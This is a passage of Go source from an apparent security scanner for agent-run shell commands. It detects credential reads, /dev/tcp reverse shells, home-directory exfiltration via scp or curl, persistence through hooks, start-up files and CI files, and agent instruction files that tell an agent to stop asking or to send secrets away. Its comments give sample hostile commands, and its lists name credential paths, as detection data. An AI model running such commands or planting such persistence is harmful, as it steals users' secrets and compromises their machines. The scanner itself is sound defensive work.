			h.add(ruleCredentialRead, c.name+" reads credentials a search by name found")
			return
		}
		if base := path.Base(a.val); a.lit && keyPrinters[c.name] && privateKeyFile.MatchString(base) && !strings.Contains(strings.ToLower(base), "pub") && !c.captured {
			h.add(ruleCredentialRead, c.name+" prints the private key "+quoteDetail(a.val))
			return
		}
		for _, p := range readPaths(a) {
			for _, t := range c.targets(p) {
				// a reader follows a link that ends the path too (ln -s
				// ~/.ssh/id_rsa /tmp/k; cat /tmp/k)
				final := slices.ContainsFunc(c.links[linkKey(t.path)], isCredentialPath)
				if isCredentialPath(t.path) || final {
					if c.captured && strings.HasSuffix(t.path, "/serviceaccount/token") {
						continue // a pod's token read for a request (sent elsewhere, egress:token-sent judges it)
					}
					h.add(ruleCredentialRead, c.name+" reads credentials "+t.show)
					return
				}
			}
		}
	}
}

// credentialUses are, per program, the options whose value is a
// credential the program uses itself (curl --netrc-file, age -i): it
// authenticates with it, and prints or sends none of it.
var credentialUses = map[string][]string{
	"curl": {"--netrc-file", "--cert", "-E", "--key", "--cacert", "--proxy-cert", "--proxy-key", "--proxy-cacert"},
	"wget": {"--certificate", "--private-key", "--ca-certificate"},
	"age":  {"-i", "--identity"}, "rage": {"-i", "--identity"},
}

// withoutCredentialUses is args without the values of name's
// credentialUses options.
func withoutCredentialUses(name string, args []arg) []arg {
	opts := credentialUses[name]
	if opts == nil || slices.ContainsFunc(args, revealsCredentials) {
		return args
	}
	out := make([]arg, 0, len(args))
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a.lit && slices.Contains(opts, a.val) {
			i++ // its value
			continue
		}
		if n, _, ok := strings.Cut(a.val, "="); a.lit && ok && slices.Contains(opts, n) {
			continue
		}
		out = append(out, a)
	}
	return out
}

// runtimeAuth is podman's registry logins under the user's runtime
// directory, named by its variable.
var runtimeAuth = regexp.MustCompile(`^["']?\$\{?XDG_RUNTIME_DIR\}?/containers/auth\.json["']?$`)

// revealsCredentials is an argument with which a client shows or hands
// on the credentials it uses: verbose and trace output (the Basic auth
// header), plain http, a proxy, a host re-pointed.
func revealsCredentials(a arg) bool {
	if !a.lit {
		return true
	}
	v := a.val
	switch {
	case v == "-v" || v == "--verbose" || strings.HasPrefix(v, "--trace") || strings.HasPrefix(v, "--libcurl") || strings.HasPrefix(v, "--stderr"):
		return true
	case v == "-x" || strings.HasPrefix(v, "--proxy") || strings.HasPrefix(v, "--resolve") || strings.HasPrefix(v, "--connect-to") || strings.HasPrefix(v, "--preproxy"):
		return true
	case strings.HasPrefix(strings.ToLower(v), "http://"):
		return true
	case strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsAny(v, "vx"):
		return true // -sv, -vx
	}
	return false
}

// procEnviron is a process's environment as a file.
var procEnviron = regexp.MustCompile(`^/proc/[^/]+/environ$`)

// tarOperands returns tar's arguments with each operand after -C DIR
// (--directory DIR) joined to DIR: tar czf x.tgz -C ~ .ssh reads ~/.ssh.
func tarOperands(args []arg) []arg {
	out := make([]arg, 0, len(args))
	dir := ""
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case !a.lit:
		case (a.val == "-C" || a.val == "--directory") && i+1 < len(args):
			dir = ""
			if args[i+1].lit {
				dir = args[i+1].val
			}
			i++
			continue
		case strings.HasPrefix(a.val, "--directory="):
			dir = strings.TrimPrefix(a.val, "--directory=")
			continue
		case dir != "" && !strings.HasPrefix(a.val, "-") && !isAbsolute(a.val) && !strings.HasPrefix(a.val, "~"):
			a.val = joinPath(dir, a.val)
		}
		out = append(out, a)
	}
	return out
}

// credentialNames are file names find looks for to collect credentials.
var credentialNames = []string{"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "id_*", ".netrc", ".pgpass", ".git-credentials",
	"credentials", ".aws", ".ssh", "*.ppk", ".vault-token", "shadow", "kubeconfig", ".kube"}

// matchFindCredentials judges find looking up credentials by name and
// acting on each it finds (find / -name id_rsa -exec cp {} /tmp/x \;).
func matchFindCredentials(c *command, h *hits) {
	_, expr := findParts(c.args)
	names, _ := findNames(expr)
	acts := slices.ContainsFunc(expr, func(e arg) bool {
		return e.lit && (e.val == "-exec" || e.val == "-execdir" || e.val == "-ok" || e.val == "-okdir" || e.val == "-fprint" || e.val == "-fprint0" || e.val == "-fls")
	})
	if !acts {
		return
	}
	for _, n := range names {
		if slices.Contains(credentialNames, n) {
			h.add(ruleCredentialRead, "find -name "+quoteDetail(n)+" acts on each credential it finds")
			return
		}
	}
	// Key and certificate files are also a project's test fixtures: they
	// are credentials when looked up through a tree that holds the user's
	// or the system's (find ~ -name '*.pem' -exec curl -F f=@{} ...).
	roots, _ := findParts(c.args)
	for _, n := range names {
		if !slices.Contains(keyFileNames, n) {
			continue
		}
		for _, r := range roots {
			for _, p := range c.paths(r) {
				if credentialTree(p) || p == "/etc" {
					h.add(ruleCredentialRead, "find "+quoteDetail(r.src)+" -name "+quoteDetail(n)+" acts on each key file it finds")
					return
				}
			}
		}
	}
}

// matchTreeCopy judges scp and rsync copying a home directory (or every
// one) to another machine: its keys, tokens and histories leave the host
// (scp -r ~ x@host:, rsync -a /home/ host:/b). A copy between local
// directories, or of a project, is not judged here.
func matchTreeCopy(c *command, h *hits) {
	spec := optSpec{short: "cFiJlPoSDeBfT", long: []string{"rsh", "rsync-path", "filter", "exclude", "include", "exclude-from", "include-from",
		"files-from", "temp-dir", "compare-dest", "copy-dest", "link-dest", "partial-dir", "log-file", "password-file", "chmod", "chown",
		"timeout", "port", "bwlimit", "backup-dir", "suffix", "max-size", "min-size", "max-delete", "out-format"}}
	ops, _ := operands(c.args, spec)
	if len(ops) < 2 || !remoteOperand(ops[len(ops)-1]) {
		return
	}
	for _, o := range ops[:len(ops)-1] {
		if remoteOperand(o) {
			continue
		}
		for _, p := range c.paths(o) {
			if credentialTree(p) || agentTranscripts(p) {
				h.add(ruleDataSend, c.name+" copies "+quoteDetail(o.src)+", a tree that holds credentials or histories, to another machine")
				return
			}
		}
	}
}

// remoteOperand reports an scp or rsync operand on another machine:
// HOST:PATH, USER@HOST:PATH, scp:// or rsync:// (a colon after a slash is
// part of a local path).
func remoteOperand(a arg) bool {
	v := a.val
	if strings.HasPrefix(v, "scp://") || strings.HasPrefix(v, "rsync://") {
		return true
	}
	i := strings.IndexByte(v, ':')
	return i > 0 && !strings.Contains(v[:i], "/")
}

// keyFileNames are find -name patterns of private key and key store files.
var keyFileNames = []string{"*.pem", "*.key", "*.p12", "*.pfx", "*.jks", "*.keystore", "*.kdbx", "*.gpg", "*.asc", ".env", "*.env", ".env*"}

// agentTranscripts reports a coding agent's saved sessions or prompt
// history (~/.claude/projects, ~/.codex/sessions, ~/.codex/history.jsonl,
// ~/.gemini/tmp), or the directory that holds them: a history of the
// user's work, as a shell's history is, with what was pasted into it.
func agentTranscripts(p string) bool {
	c, ok := cleanAbs(p)
	if !ok {
		return false
	}
	rel, ok := homeRelative(c)
	if !ok {
		return false
	}
	for _, d := range []string{".claude/projects", ".claude/history.jsonl", ".codex/sessions", ".codex/history.jsonl", ".gemini/tmp", ".local/share/opencode/storage"} {
		if rel == d || strings.HasPrefix(rel, d+"/") {
			return true
		}
	}
	return false
}

// credentialTree reports whether directory p holds the credentials of a
// user or of the system: the root, a home directory or all of them
// (/home, /Users, /home/NAME, /Users/*), /root, /etc, or a home's
// configuration directory (~/.config).
func credentialTree(p string) bool {
	if holdsCredentials(p) {
		return true
	}
	c, ok := cleanAbs(p)
	if !ok {
		return false
	}
	for _, root := range []string{"/home/", "/Users/"} {
		if rest, ok := strings.CutPrefix(c, root); ok && rest != "" && !strings.Contains(rest, "/") {
			return true // a user's home, or /home/* (every one)
		}
	}
	rel, ok := homeRelative(c)
	return ok && (rel == ".config" || rel == ".local" || rel == ".local/share")
}

// readPaths returns the paths one argument makes a reader read: itself, or
// the file of @FILE (curl -d @f, -F k=@f, http f@/abs/f), file://F, if=F,
// file:F, --post-file=F.
func readPaths(a arg) []arg {
	out := []arg{a}
	v := a.val
	if !a.lit {
		return out
	}
	for _, sep := range []string{"=@", "@", "file://", "if=", "file:", "open:", "FILE:", "OPEN:", "GOPEN:", "gopen:", "--post-file=", "--body-file=", "--upload-file="} {
		if i := strings.Index(v, sep); i >= 0 && (sep != "@" || i == 0 || formFileField(v[:i], v[i+1:])) {
			b := a
			b.val = v[i+len(sep):]
			if (sep == "@" || sep == "=@") && strings.HasPrefix(b.val, "~/") {
				// httpie opens its file fields with expanduser: f@~/.netrc is the home's
				b.val = homeMarker + b.val[1:]
			}
			out = append(out, b)
		}
	}
	return out
}

// uploadedFile returns the file args[i] names when it is the value of an
// upload option: -T FILE (alone or last in a cluster, -sT FILE), -TFILE,
// --upload-file FILE, --post-file FILE, --body-file FILE.
func uploadedFile(args []arg, i int) (arg, bool) {
	a := args[i]
	if !a.lit {
		return arg{}, false
	}
	if strings.HasPrefix(a.val, "-T") && len(a.val) > 2 {
		f := a
		f.val = a.val[2:]
		return f, true
	}
	if i == 0 || !args[i-1].lit {
		return arg{}, false
	}
	prev := args[i-1].val
	switch {
	case prev == "--upload-file" || prev == "--post-file" || prev == "--body-file":
		return a, true
	case len(prev) > 1 && prev[0] == '-' && prev[1] != '-' && strings.HasSuffix(prev, "T"):
		return a, true
	}
	return arg{}, false
}

// formFileField reports an HTTPie-style form file field, NAME@/path
// (http --form POST URL f@/etc/hosts, f@$HOME/.netrc): a field name,
// then an absolute path, unlike user@host.
func formFileField(name, path string) bool {
	if name == "" || !strings.HasPrefix(path, "/") && !strings.HasPrefix(path, homeMarker) && !strings.HasPrefix(path, "~/") {
		return false
	}
	for _, r := range name {
		word := r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '-'
		if !word {
			return false
		}
	}
	return true
}

// sensitiveRedirect judges a redirection by the sensitive-path model: an
// input redirection from a credential reads it (cmd < ~/.ssh/id_rsa), and
// a shell or exec whose input or output is /dev/tcp or /dev/udp is a shell
// wired to the network.
func (w *walker) sensitiveRedirect(s *syntax.Stmt, r *syntax.Redirect, sp span) {
	if r.Word == nil || r.Hdoc != nil || r.Op == syntax.WordHdoc {
		return
	}
	c := command{cwd: w.env.cwd, home: w.env.get("HOME"), links: w.env.links}
	for _, a := range w.value(r.Word) {
		if src := strings.TrimLeft(a.src, `"'`); !a.lit && (strings.HasPrefix(src, "/dev/tcp/") || strings.HasPrefix(src, "/dev/udp/")) &&
			stmtShell(s) && !portCheck(w.f, s, r) {
			// /dev/tcp/$HOST/$PORT: a socket to a host only known at run time
			w.d.add(w.f, ruleShellSocket, "shell redirected to "+quoteDetail(a.src), "", sp)
			continue
		}
		for _, t := range c.targets(a) {
			switch {
			case (r.Op == syntax.RdrIn || r.Op == syntax.RdrInOut) && isCredentialPath(t.path) && (r.Op != syntax.RdrIn || !mountedSecret(t.path) || !readsCredential(s)) &&
				(r.Op != syntax.RdrIn || !countsOnly(s)):
				// docker login --password-stdin < /run/secrets/x: a login
				// reading the secret mounted for it, not printing it
				w.d.add(w.f, ruleCredentialRead, "input redirection from credentials "+t.show, "", sp)
			case (strings.HasPrefix(t.path, "/dev/tcp/") || strings.HasPrefix(t.path, "/dev/udp/")) && stmtShell(s) && !portCheck(w.f, s, r):
				w.d.add(w.f, ruleShellSocket, "shell redirected to "+t.show, "", sp)
			}
		}
	}
}

// unusedSocket reports exec N<>/dev/tcp/HOST/PORT (N >= 3, exec with
// redirections only) in a script whose only other commands print a
// message (echo, printf of plain text): the connection opens and closes,
// a port check (exec 3<>/dev/tcp/db/5432 && echo open). A reverse shell
// wires the socket to a shell's input or output (sh <&3, exec 0<&3), and
// any program run after the exec inherits descriptor N and may do so.
func unusedSocket(src string, s *syntax.Stmt, r *syntax.Redirect) bool {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) != 1 || call.Args[0].Lit() != "exec" || r.N == nil {
		return false
	}
	if n, err := strconv.Atoi(r.N.Value); err != nil || n < 3 {
		return false
	}
	start, end := int(s.Pos().Offset()), int(s.End().Offset())
	if start > end || end > len(src) {
		return false
	}
	return onlyMessages.MatchString(src[:start]) && onlyMessages.MatchString(src[end:])
}

// portCheck reports a socket opened only to see that it opens, in a
// shell process of its own.
func portCheck(f *frame, s *syntax.Stmt, r *syntax.Redirect) bool {
	return ownProcess(f) && unusedSocket(f.src, s, r)
}

// ownProcess reports a frame whose script is a shell process of its own:
// the job's script, or one given to sh -c. What eval, source or a trap
// runs shares the descriptors of the script around it, which may use them.
func ownProcess(f *frame) bool {
	if f.parent == nil {
		return true
	}
	last := f.via[strings.LastIndex(f.via, " > ")+1:]
	return strings.HasSuffix(last, " -c")
}

// onlyMessages matches script text that runs nothing but echo or printf
// of plain words, joined by ; && || and newlines.
var onlyMessages = regexp.MustCompile(`^(?:[\s;&|]|(?:echo|printf)(?:\s+(?:[\w.,:/=+-]+|'[^'$\x60\\]*'|"[^"$\x60\\]*"))*)*$`)

// stmtShell reports whether a statement runs a shell or exec (or nothing
// but redirections: exec 5<>/dev/tcp/... has the same effect).
func stmtShell(s *syntax.Stmt) bool {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 {
		return false // redirections alone (</dev/tcp/host/port: a port check) run nothing
	}
	lit := call.Args[0].Lit()
	if lit == "" {
		return true // "${a[@]}" >& /dev/tcp/...: a program named at run time may be a shell
	}
	name := path.Base(lit)
	return shells[name] || name == "exec"
}

// commandVars are variables whose value the program they are set for runs
// as code (GIT_SSH_COMMAND='cmd' git fetch; PERL5DB='exec "cmd"' perl -d),
// in the language given; the value is judged as a script. LESSOPEN's
// leading | is the pipe marker, not code.
var commandVars = map[string]lang{
	"GIT_SSH_COMMAND": langShell, "GIT_SSH": langShell, "GIT_PAGER": langShell, "PAGER": langShell, "MANPAGER": langShell,
	"GIT_EDITOR": langShell, "EDITOR": langShell, "VISUAL": langShell, "GIT_EXTERNAL_DIFF": langShell, "LESSOPEN": langShell,
	"LESSCLOSE": langShell, "GIT_ASKPASS": langShell, "SSH_ASKPASS": langShell, "GIT_SEQUENCE_EDITOR": langShell,
	"SUDO_ASKPASS": langShell, "BROWSER": langShell, "SYSTEMD_PAGER": langShell, "PROMPT_COMMAND": langShell,
	"KUBE_EDITOR": langShell, "SVN_EDITOR": langShell, "HGEDITOR": langShell, "FCEDIT": langShell,
	"PERL5DB": langPerl,
}

// sourcedFileVars are variables naming a file a shell sources before the
// command it runs (bash's BASH_ENV, sh's ENV).
var sourcedFileVars = map[string]bool{"BASH_ENV": true, "ENV": true}

// commandEnv judges the commands a statement's prefix assignments hand to
// the program it runs.
func (w *walker) commandEnv(assigns []*syntax.Assign, sp span) {
	for _, a := range assigns {
		if a.Name == nil || a.Value == nil {
			continue
		}
		c := command{name: a.Name.Value, cwd: w.env.cwd, home: w.env.get("HOME"), links: w.env.links, sp: sp}
		if sourcedFileVars[a.Name.Value] {
			// BASH_ENV=FILE bash -c ...: the shell sources FILE first; one the script wrote is judged
			for _, v := range w.value(a.Value) {
				if file, ok := w.writtenScript(v); ok && file.s.known {
					w.runCode(&c, langShell, file.s.code(), a.Name.Value+"="+v.val, sp, nil, false)
				}
			}
			continue
		}
		l, ok := commandVars[a.Name.Value]
		if !ok {
			continue
		}
		for _, v := range w.value(a.Value) {
			if !v.lit {
				continue // a value built at run time: the program, not this variable, is what is judged
			}
			v.val = strings.TrimLeft(strings.TrimSpace(v.val), "|")
			if a.Name.Value == "LESSOPEN" || a.Name.Value == "LESSCLOSE" {
				v.val = strings.ReplaceAll(v.val, "%s", "FILE")
			}
			v.exact = -1
			w.runCode(&c, l, argCode(v), a.Name.Value, sp, nil, false)
		}
	}
}

// Places where what is written runs later (persistence through
// configuration): git hooks, shell start-up files, the SSH client's
// command options, vim's ! commands.
var (
	shellStartup = []string{".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile", ".zshrc", ".zprofile",
		".zshenv", ".zlogin", ".kshrc", ".mkshrc", ".cshrc", ".tcshrc", "config.fish"}
	sshCommandLine = regexp.MustCompile(`(?im)^\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand|RemoteCommand)[ \t=]+(.+)$`)
	vimShellLine   = regexp.MustCompile(`(?m)^\s*:?\s*(?:silent!?\s*)?!(.+)$`)
	awsProcessLine = regexp.MustCompile(`(?m)^\s*credential_process\s*=\s*(.+)$`)
)

// Lines that only configure a shell (an export, an alias, a comment), in
// text appended to a shell start-up file.
var (
	startupAssign = regexp.MustCompile(`^(?:export\s+)?([A-Za-z_][A-Za-z0-9_]*)=("[^"]*"|'[^']*'|[^\s"']*)$`)
	startupAlias  = regexp.MustCompile(`^alias\s+([A-Za-z0-9_.-]+)=("[^"]*"|'[^']*'|[^\s"']*)$`)
	// shadowed are common commands an alias must not replace with another
	// (alias ls=rm); shells, sudo and the packs' tools count too.
	shadowed = []string{"ls", "cd", "cat", "echo", "grep", "sudo", "ssh", "git", "cp", "mv", "rm", "vi", "vim", "less",
		"man", "which", "type", "clear", "pwd", "mkdir", "find", "python", "python3", "pip", "npm", "node", "make", "docker", "kubectl",
		"rmdir", "chmod", "chown", "dd", "kill", "shutdown", "reboot", "curl", "wget", "tar", "sed", "awk", "env", "exec", "command", "builtin"}
)

// plainStartupText reports text that only sets variables (PATH to absolute
// or home directories, no variable the env-code table names unless it is
// plain), defines aliases that replace no common command, or comments:
// appending it to ~/.bashrc changes no command's meaning.
// brewShellenvLine is the line Homebrew's installer asks to add to a
// start-up file: it only exports Homebrew's PATH.
var brewShellenvLine = regexp.MustCompile(`^eval "\$\(((/opt/homebrew|/usr/local|/home/linuxbrew/\.linuxbrew)/bin/)?brew shellenv( (bash|zsh|fish|sh))?\)"$` +
	// and the other tools whose documented set-up line evaluates what they print
	`|^eval "\$\((direnv hook|starship init|zoxide init|mise activate|rtx activate|atuin init|mcfly init|fnm env( --use-on-cd)?( --shell)?|pyenv init|pyenv virtualenv-init|rbenv init|nodenv init|goenv init|jenv init|conda shell\.(bash|zsh)|thefuck --alias|register-python-argcomplete [\w-]+)( -| --path| (bash|zsh|fish|posix|sh))*( hook)?\)"$` +
	`|^(source|\.) <\((kubectl|helm|gh|glab|minikube|kind|k3d|flux|argocd|docker|npm|pip3?|poetry|rustup|deno|tkn|oc|eksctl|doctl|hcloud|terraform|tofu|just|task) completion( -s)? (bash|zsh|fish)\)$` +
	// and the environment files installers write and document sourcing
	// (their own writes are judged: toolEnvFiles)
	`|^(source|\.) "?(\$HOME|\$\{HOME\}|~)/\.(cargo/env|local/bin/env|ghcup/env|rye/env|deno/env|sdkman/bin/sdkman-init\.sh|nvm/nvm\.sh)"?$`)

// toolEnvFiles are the environment files installers write for the shell's
// start-up files to source: what is written to them runs at each start.
var toolEnvFiles = []string{".cargo/env", ".local/bin/env", ".ghcup/env", ".rye/env", ".deno/env", ".sdkman/bin/sdkman-init.sh", ".nvm/nvm.sh"}

func plainStartupText(text string) bool {
	for line := range strings.SplitSeq(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") || brewShellenvLine.MatchString(line) {
			continue
		}
		if strings.ContainsAny(line, "`;&|<>") || strings.Contains(line, "$(") {
			return false
		}
		if m := startupAssign.FindStringSubmatch(line); m != nil {
			if !plainStartupVar(m[1], strings.Trim(m[2], `"'`)) {
				return false
			}
			continue
		}
		m := startupAlias.FindStringSubmatch(line)
		if m == nil {
			return false
		}
		first, _, _ := strings.Cut(strings.TrimSpace(strings.Trim(m[2], `"'`)), " ")
		if first != m[1] && (slices.Contains(shadowed, m[1]) || packTools[m[1]] != nil || shells[m[1]] || privileged[m[1]]) {
			return false
		}
	}
	return true
}

// plainStartupVar reports a variable a start-up file may set: PATH made of
// absolute (not temporary) or home directories and $PATH, or a variable the env-code table
// does not name (or admits with this value).
func plainStartupVar(name, v string) bool {
	if name == "PATH" {
		for dir := range strings.SplitSeq(v, ":") {
			switch {
			case dir == "$PATH" || dir == "${PATH}":
			case strings.HasPrefix(dir, "/tmp") || strings.HasPrefix(dir, "/var/tmp") || strings.HasPrefix(dir, "/dev/shm"):
				return false // anyone may write there
			case strings.HasPrefix(dir, "/") || strings.HasPrefix(dir, "~/") || strings.HasPrefix(dir, "$HOME/") || strings.HasPrefix(dir, "${HOME}/"):
			default:
				return false
			}
		}
		return true
	}
	for _, tmp := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
		if v == tmp || strings.HasPrefix(v, tmp+"/") || strings.Contains(v, ":"+tmp) {
			return false // PYENV_ROOT=/tmp/p, STARSHIP_CONFIG=/tmp/s.toml: a directory anyone may write
		}
	}
	if name == "PROMPT_COMMAND" && (v == "history -a" || v == "history -a; history -n" || v == "history -a; history -c; history -r") {
		return true // the history written at each prompt: the documented idiom
	}
	c, ok := lookupEnvCode(name)
	return !ok || c.safe != nil && c.safe(v)
}

// tmuxShellLine is a tmux configuration line that runs a shell command.
var tmuxShellLine = regexp.MustCompile(`(?:\brun-shell|\brun|\bif-shell|\bif|default-command|default-shell)\s+(?:-\w+\s+(?:\d+\s+)?)*(?:'([^'\n]*)'|"([^"\n]*)")|#\(([^)\n]*)\)`)

// jsonCommand is a "command" string of a JSON file (VS Code's tasks).
var jsonCommand = regexp.MustCompile(`"command"\s*:\s*"((?:[^"\\]|\\.)*)"(?:\s*,\s*"args"\s*:\s*\[([^\]]*)\])?`)

// jsonString is a JSON string.
var jsonString = regexp.MustCompile(`"((?:[^"\\]|\\.)*)"`)

// gitHookNames are the hooks git runs (githooks(5)).
var gitHookNames = map[string]bool{
	"applypatch-msg": true, "pre-applypatch": true, "post-applypatch": true, "pre-commit": true, "pre-merge-commit": true,
	"prepare-commit-msg": true, "commit-msg": true, "post-commit": true, "pre-rebase": true, "post-checkout": true, "post-merge": true,
	"pre-push": true, "pre-receive": true, "update": true, "proc-receive": true, "post-receive": true, "post-update": true,
	"reference-transaction": true, "push-to-checkout": true, "pre-auto-gc": true, "post-rewrite": true, "sendemail-validate": true,
	"fsmonitor-watchman": true, "p4-changelist": true, "p4-prepare-changelist": true, "p4-post-changelist": true, "p4-pre-submit": true,
	"post-index-change": true,
}

// scriptSinkKind is a kind of file that something runs later: which files
// it is, and the scripts (in lang) that running it runs.
type scriptSinkKind struct {
	is      func(p, base string) bool
	lang    lang
	scripts func(p, text string) []string
	runner  bool // run on another machine (a CI runner): harm to that machine's own files is not judged
	// told reports prose that tells an agent to stop asking or to send
	// secrets away (an instruction file): a finding's rule and detail
	told func(text string) (rule, detail string)
}

// regexpScripts returns a scripts func that reads each match of re (its
// first non-empty group) as a script.
func regexpScripts(re *regexp.Regexp) func(p, text string) []string {
	return func(_, text string) []string {
		var out []string
		for _, m := range re.FindAllStringSubmatch(text, -1) {
			for _, g := range m[1:] {
				if g != "" {
					out = append(out, g)
					break
				}
			}
		}
		return out
	}
}

// wholeScript is a file run as one shell script.
func wholeScript(_, text string) []string { return []string{text} }

// scriptSinks are the files judged when written, first match wins.
var scriptSinks = []scriptSinkKind{
	{is: func(_, base string) bool { return slices.Contains(shellStartup, base) }, scripts: func(_, text string) []string {
		// the documented set-up lines of known tools (eval "$(direnv hook
		// bash)", source <(kubectl completion bash)) are left out
		var lines []string
		for line := range strings.SplitSeq(text, "\n") {
			if !brewShellenvLine.MatchString(strings.TrimSpace(line)) {
				lines = append(lines, line)
			}
		}
		return []string{strings.Join(lines, "\n")}
	}},
	// a hook by its name in any hooks directory: init.templateDir's
	// template and core.hooksPath copy or run it
	{is: func(p, base string) bool {
		return strings.Contains("/"+p, "/.git/hooks/") || strings.HasPrefix(p, ".githooks/") || strings.Contains(p, "/.husky/") || strings.HasPrefix(p, ".husky/") ||
			gitHookNames[base] && path.Base(path.Dir(p)) == "hooks"
	}, scripts: wholeScript},
	{is: func(p, _ string) bool {
		return strings.HasSuffix(p, ".ssh/config") || strings.HasSuffix(p, "/ssh_config")
	}, scripts: func(p, text string) []string {
		// ssh's tokens: %d the local home, the others names
		return regexpScripts(sshCommandLine)(p, sshTokens.Replace(text))
	}},
	// the AWS CLI and SDKs run a profile's credential_process
	{is: func(p, _ string) bool {
		return strings.HasSuffix(p, ".aws/config") || strings.HasSuffix(p, ".aws/credentials")
	}, scripts: regexpScripts(awsProcessLine)},
	{is: func(p, _ string) bool { return isAgentFile(p) }, scripts: func(p, text string) []string {
		scripts, _ := agentDefinitionCommands(p, text)
		return scripts
	}},
	{is: func(_, base string) bool {
		return base == ".vimrc" || base == ".exrc" || base == "init.vim" || base == ".gvimrc"
	}, scripts: regexpScripts(vimShellLine)},
	// direnv runs it on entering the directory
	{is: func(_, base string) bool { return base == ".envrc" || base == ".envrc.local" }, scripts: wholeScript},
	// an installer's environment file, sourced by the start-up files
	{is: func(p, _ string) bool {
		return slices.ContainsFunc(toolEnvFiles, func(f string) bool { return strings.HasSuffix(p, "/"+f) || p == "~/"+f })
	}, scripts: wholeScript},
	{is: func(p, base string) bool { return base == ".tmux.conf" || strings.HasSuffix(p, "/tmux/tmux.conf") }, scripts: regexpScripts(tmuxShellLine)},
	// a task's command; runOn folderOpen runs it when the folder opens
	{is: func(p, _ string) bool { return strings.HasSuffix(p, ".vscode/tasks.json") }, scripts: vscodeTasks},
	// a pipeline's steps run on the CI service, with the repository's
	// secrets, once the file is pushed
	{is: func(p, _ string) bool { return isCIFile(p) }, runner: true, scripts: func(_, text string) []string {
		scripts, _ := ciDefinitionCommands(text)
		return scripts
	}},
	// an agent's instructions: the commands in its code spans are run by
	// the agent, and prose may tell it to stop asking
	{is: isAgentInstructions, scripts: instructionCommands, told: toldNotToAsk},
	// site-packages runs a .pth file's import lines at each start of Python
	{is: func(_, base string) bool { return strings.HasSuffix(base, ".pth") }, lang: langPython, scripts: func(_, text string) []string {
		var out []string
		for line := range strings.SplitSeq(text, "\n") {
			if strings.HasPrefix(line, "import ") || strings.HasPrefix(line, "import\t") {
				out = append(out, line)
			}
		}
		return out
	}},
}

// vscodeTasks returns the commands of a VS Code tasks.json, each with its
// "args" as its words.
func vscodeTasks(_, text string) []string {
	var out []string
	for _, m := range jsonCommand.FindAllStringSubmatch(text, -1) {
		cmd := strings.ReplaceAll(m[1], `\"`, `"`)
		if m[2] != "" {
			for _, a := range jsonString.FindAllStringSubmatch(m[2], -1) {
				cmd += " '" + strings.ReplaceAll(strings.ReplaceAll(a[1], `\"`, `"`), "'", `'\''`) + "'"
			}
		}
		out = append(out, cmd)
	}
	return out
}

// runnerLocal reports a finding about harm to the machine a script runs
// on that a CI runner's steps do to the runner alone: its system files and
// privileges (host-only rules), the credentials its steps write from the
// repository's secrets, the secrets they print to its masked log.
func runnerLocal(f finding) bool {
	switch f.rule {
	case "paths:credential-destroy", "paths:home-destroy", "paths:interp-destroy", "secrets:secret-print":
		return true
	}
	return f.hostOnly
}

// scriptSink judges content written to a place that runs it later, as the
// script it will be: a hook that deletes the home directory is refused when
// it is written, not when git runs it.
func (w *walker) scriptSink(a arg, s stream) {
	p := strings.ReplaceAll(a.val, homeMarker, "~")
	base := path.Base(p)
	if !s.known && s.taint&taintDownload != 0 && (autoRunPath(p) || slices.ContainsFunc(scriptSinks, func(k scriptSinkKind) bool { return k.is(p, base) })) {
		// curl -o ~/.vim/plugin/x.vim URL: downloaded code, run later
		w.d.add(w.f, rulePipeToShell, "writes code downloaded from the network to "+quoteDetail(a.val)+", which runs it later", "", span{a.pos, a.end})
		return
	}
	if !s.known || s.text == "" {
		return
	}
	for _, k := range scriptSinks {
		if !k.is(p, base) {
			continue
		}
		c := command{name: "write", later: true, cwd: w.env.cwd, home: w.env.get("HOME"), links: w.env.links, sp: span{a.pos, a.end}}
		before := len(w.d.findings)
		for _, text := range k.scripts(p, s.text) {
			w.runCode(&c, k.lang, code{text: text, known: true, base: -1, anchor: a.pos}, "written to "+quoteDetail(a.val), c.sp, nil, false)
		}
		if k.runner {
			w.d.findings = append(w.d.findings[:before], slices.DeleteFunc(w.d.findings[before:], runnerLocal)...)
		}
		if k.told != nil {
			if rule, d := k.told(s.text); rule != "" {
				w.d.add(w.f, rule, d, "written to "+quoteDetail(a.val), c.sp)
			}
		}
		return
	}
}

// grepCounts reports a grep that prints no matched line: -c counts, -l and
// -L name files, -q prints nothing.
// jqShapeFilter is a jq or yq filter that prints only a document's shape:
// its keys, a count or a type (.auths | keys, .mcpServers | length).
var jqShapeFilter = regexp.MustCompile(`^\s*(\.[\w.\[\]"-]*\s*\|\s*)?((keys|keys_unsorted)(\[\])?|length|type)\s*$`)

// jqShape reports jq, gojq or yq given a filter that prints only the
// document's shape, not its values.
func jqShape(c *command) bool {
	if c.name != "jq" && c.name != "gojq" && c.name != "yq" {
		return false
	}
	if slices.ContainsFunc(c.args, func(a arg) bool {
		return a.val == "-i" || strings.HasPrefix(a.val, "--inplace") || strings.HasPrefix(a.val, "-i=")
	}) {
		return false // yq -i writes the shape over the file
	}
	for _, a := range c.args {
		if !a.lit {
			return false
		}
		if strings.HasPrefix(a.val, "-") {
			continue
		}
		return jqShapeFilter.MatchString(a.val) // the first operand is the filter
	}
	return false
}

func grepCounts(c *command) bool {
	switch c.name {
	case "grep", "egrep", "fgrep", "rg", "ag":
	default:
		return false
	}
	for _, a := range c.args {
		if !a.lit || a.val == "--" {
			break
		}
		switch {
		case a.val == "--count" || a.val == "--files-with-matches" || a.val == "--files-without-match" || a.val == "--quiet" || a.val == "--silent":
			return true
		case len(a.val) > 1 && a.val[0] == '-' && a.val[1] != '-':
			// a cluster such as -rc; an option taking a value (-e, -f, -m)
			// ends the cluster, so -ecx is -e with the pattern cx
			cluster := a.val[1:]
			if k := strings.IndexAny(cluster, "efmABCdD"); k >= 0 {
				cluster = cluster[:k]
			}
			quiet := "clLq"
			if c.name == "rg" {
